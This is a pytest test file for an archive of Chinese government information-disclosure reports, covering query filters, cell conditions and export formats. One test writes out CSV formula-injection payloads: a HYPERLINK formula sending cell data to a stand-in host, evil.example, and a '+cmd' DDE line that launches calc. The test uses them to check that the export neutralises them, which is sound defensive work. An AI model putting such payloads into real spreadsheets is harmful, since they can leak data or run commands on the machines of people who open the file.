"""Query filters, cell conditions and the export formats, over the five seed reports."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pyarrow.parquet as pq
import pytest
import sqlalchemy as sa

from storage.archive import Archive
from storage.export import write_export
from storage.models import Version
from storage.query import QueryError, QueryFilters, parse_where, run_query
from tests.storage.conftest import REVISED_TOTAL, SEED_ZHANGDIAN_2023, SEED_ZIBO, capture_of


@pytest.fixture
def filled(archive: Archive, seeds_dir: Path) -> Archive:
    for n, path in enumerate(sorted(seeds_dir.glob("*.txt"))):
        archive.record(capture_of(path.read_bytes(), url=f"http://gov.test/{n}.html", minutes=n))
    revised = (seeds_dir / SEED_ZIBO).read_bytes().replace(REVISED_TOTAL[0].encode(), REVISED_TOTAL[1].encode(), 1)
    assert archive.record(capture_of(revised, url="http://gov.test/0.html", minutes=30)).outcome == "new_version"
    return archive


def query(archive: Archive, **filters) -> list[tuple[str, int, int]]:
    with archive.session() as session:
        return [(r.agency, r.year, r.version_no) for r in run_query(session, QueryFilters(**filters))]


def test_latest_version_per_report_by_default(filled: Archive) -> None:
    rows = query(filled)
    assert len(rows) == 5 and ("淄博经济开发区", 2020, 2) in rows
    assert len(query(filled, all_versions=True)) == 6


def test_metadata_filters(filled: Archive) -> None:
    assert {a for a, _, _ in query(filled, agency="张店")} == {"淄博市张店区机关事务服务中心", "山东张店经济开发区管理委员会"}
    assert query(filled, agency="淄博 经济开发区") == [("淄博经济开发区", 2020, 2)]  # white space ignored
    assert query(filled, year=2023) == [("山东张店经济开发区管理委员会", 2023, 1)]
    assert query(filled, template="2021") == [("山东张店经济开发区管理委员会", 2023, 1)]
    assert {a for a, _, _ in query(filled, region="淄博市")} == {"淄博市张店区机关事务服务中心", "淄博市工业和信息化局"}


def test_finding_filter(filled: Archive) -> None:
    # The revised total no longer adds up, so only the latest 淄博经济开发区 version has findings.
    with filled.session() as session:
        rules = {f["rule"] for f in session.get(Version, 6).report_json["findings"] if f["severity"] == "error"}
    assert rules
    rule = sorted(rules)[0]
    assert query(filled, finding=rule) == [("淄博经济开发区", 2020, 2)]
    assert query(filled, finding=rule.split(".")[0]) == [("淄博经济开发区", 2020, 2)]
    assert query(filled, finding=rule.split(".")[0], severity="error") == [("淄博经济开发区", 2020, 2)]
    assert query(filled, finding="NO.such_rule") == []
    # LIKE wildcards in a rule name are the characters themselves, not "any rule".
    assert query(filled, finding="%") == [] and query(filled, finding="_") == []
    assert query(filled, finding=rule.split(".")[0][:-1] + "_") == []


def test_a_check_not_made_is_no_finding_unless_asked_for(archive: Archive, seeds_dir: Path) -> None:
    # 上年结转 printed "/" across: table 3 adds up as far as it prints, its balance could not be checked ("info")
    text = (seeds_dir / SEED_ZHANGDIAN_2023).read_text(encoding="utf-8").split("\n")
    row = text.index("\t二、上年结转政府信息公开申请数量") + 1
    text[row:row + 7] = ["\t/"] * 7
    archive.record(capture_of("\n".join(text).encode("utf-8"), url="http://gov.test/slashes.html"))
    with archive.session() as session:
        [row_shown] = run_query(session, QueryFilters())
    assert row_shown.findings == 0
    assert query(archive, finding="T3") == [] and query(archive, finding="T3", severity="error") == []
    assert query(archive, finding="T3", severity="info") == [("山东张店经济开发区管理委员会", 2023, 1)]


def test_where_conditions_on_named_cells(filled: Archive) -> None:
    assert query(filled, where=[parse_where("applications.new_received.total > 10")]) == [("淄博经济开发区", 2020, 2)]
    assert query(filled, where=[parse_where("applications.new_received.total > 10")], all_versions=True) == [("淄博经济开发区", 2020, 2)]
    both = [parse_where("applications.new_received.total >= 2"), parse_where("applications.new_received.total != 40")]
    assert {a for a, _, _ in query(filled, where=both)} == {"威海经济技术开发区", "淄博市工业和信息化局"}
    with filled.session() as session:
        [row] = run_query(session, QueryFilters(where=[parse_where("applications.new_received.total = 5")]))
    assert row.cells == {"applications.new_received.total": 5}


def test_is_blank_matches_printed_blanks_only(archive: Archive, seed) -> None:
    printed = seed(SEED_ZHANGDIAN_2023)
    row = "\t行政规范性文件\n\t0\n\t0\n\t0\n".encode()
    archive.record(capture_of(printed.replace(row, "\t行政规范性文件\n\t0\n\t0\n\t\n".encode(), 1)))
    archive.record(capture_of(printed.replace(b"2023", b"2022").replace(row, "\t行政规范性文件\n\t0\n\t0\n\t/\n".encode(), 1), url="http://gov.test/2022.html"))
    in_force = "active_disclosure.行政规范性文件.现行有效件数"
    assert query(archive, where=[parse_where(f"{in_force} is blank")]) == [("山东张店经济开发区管理委员会", 2023, 1)]
    assert query(archive, where=[parse_where(f"{in_force} is not blank")]) == [("山东张店经济开发区管理委员会", 2022, 1)]
    assert query(archive, where=[parse_where(f"{in_force} >= 0")]) == []  # neither blank nor "/" is 0
    # what a cell printed, by name: a dash ("/": nothing applies), a number
    assert query(archive, where=[parse_where(f"{in_force} is dash")]) == [("山东张店经济开发区管理委员会", 2022, 1)]
    assert query(archive, where=[parse_where(f"{in_force} IS NOT number")]) == [
        ("山东张店经济开发区管理委员会", 2022, 1), ("山东张店经济开发区管理委员会", 2023, 1)]
    assert query(archive, where=[parse_where("active_disclosure.行政规范性文件.本年制发件数 is number")]) == [
        ("山东张店经济开发区管理委员会", 2022, 1), ("山东张店经济开发区管理委员会", 2023, 1)]


@pytest.mark.parametrize("expression, message", [
    ("applications.new_received.total >> 3", "cannot read condition"),
    ("applications.new_received.total > many", "cannot read condition"),
    ("tables.new_received.total > 3", "bad cell name"),
    ("applications.total > 3", "bad cell name"),
])
def test_bad_expressions_say_why(expression: str, message: str) -> None:
    with pytest.raises(QueryError, match=message) as error:
        parse_where(expression)
    assert "\n" not in str(error.value)


@pytest.mark.parametrize("fmt", ["csv", "jsonl", "parquet"])
def test_export_has_a_row_per_version_and_cell(filled: Archive, tmp_path: Path, fmt: str) -> None:
    out = tmp_path / f"export.{fmt}"
    with filled.session() as session:
        written = write_export(session, out, fmt)
    if fmt == "parquet":
        rows = pq.read_table(out).to_pylist()
    elif fmt == "csv":
        rows = list(csv.DictReader(out.open(encoding="utf-8")))
    else:
        rows = [json.loads(line) for line in out.read_text(encoding="utf-8").splitlines()]
    assert len(rows) == written > 0
    assert {(r["agency"], int(r["version_no"])) for r in rows} >= {("淄博经济开发区", 1), ("淄博经济开发区", 2)}
    totals = {int(r["version_no"]): r for r in rows
              if r["agency"] == "淄博经济开发区" and r["row"] == "new_received" and r["column"] == "total"}
    assert (totals[1]["raw"], float(totals[1]["value"])) == ("4", 4.0)
    assert (totals[2]["raw"], float(totals[2]["value"])) == ("40", 40.0)


def test_a_csv_export_runs_no_formula_a_portal_printed(archive: Archive, seeds_dir: Path, tmp_path: Path) -> None:
    text = (seeds_dir / SEED_ZHANGDIAN_2023).read_text(encoding="utf-8").split("\n")
    row = text.index("\t二、上年结转政府信息公开申请数量") + 1
    text[row:row + 2] = ['\t=HYPERLINK("http://evil.example/?x="&A1,"0")', "\t+cmd|' /C calc'!A0"]
    archive.record(capture_of("\n".join(text).encode("utf-8"), url="http://gov.test/formula.html"))
    out = tmp_path / "export.csv"
    with archive.session() as session:
        write_export(session, out, "csv")
    rows = list(csv.DictReader(out.open(encoding="utf-8")))
    printed = {(r["row"], r["column"]): r["raw"] for r in rows if r["table"] == "applications"}
    assert printed[("carried_over", "natural_person")] == '\'=HYPERLINK("http://evil.example/?x="&A1,"0")'
    assert printed[("carried_over", "commercial")] == "'+cmd|' /C calc'!A0"
    assert not [r for r in rows if any(value.startswith(("=", "+", "@")) for value in r.values())]
    signed = [r["raw"] for r in rows if r["raw"].startswith("-")]  # 本年增/减 printed -1 stays a number
    assert all(raw.lstrip("-").isdigit() for raw in signed)


def test_a_version_whose_parse_failed_is_listed_as_not_parsed(archive: Archive) -> None:
    # a PDF that is no PDF, known by its listing title
    broken = capture_of(b"%PDF-1.7\n1 0 obj <</Type /Catalog", url="http://gov.test/files/2021.pdf",
                        listing_title="淄博市教育局2021年政府信息公开工作年度报告")
    archive.record(broken)
    with archive.session() as session:
        [row] = run_query(session, QueryFilters(year=2021))
        error = session.query(Version).one().parse_error
    assert error and row.parse_status == "error"
    assert row.unread == [f"not parsed: {error}"] and row.completeness is None


def test_the_ordered_statement_carries_no_parse(filled: Archive) -> None:
    # every version the filters match went through the sort with its whole parse (40-100 KB of
    # JSON) and each row shown had its parse decoded: 170 ms for a year and a template
    statements: list[str] = []
    with filled.session() as session:
        sa.event.listen(session.connection(), "before_cursor_execute", lambda *args: statements.append(args[2]))
        rows = run_query(session, QueryFilters(limit=100))
    ordered = [s for s in statements if "ORDER BY" in s]
    assert rows and ordered and not [s for s in ordered if "report_json" in s]
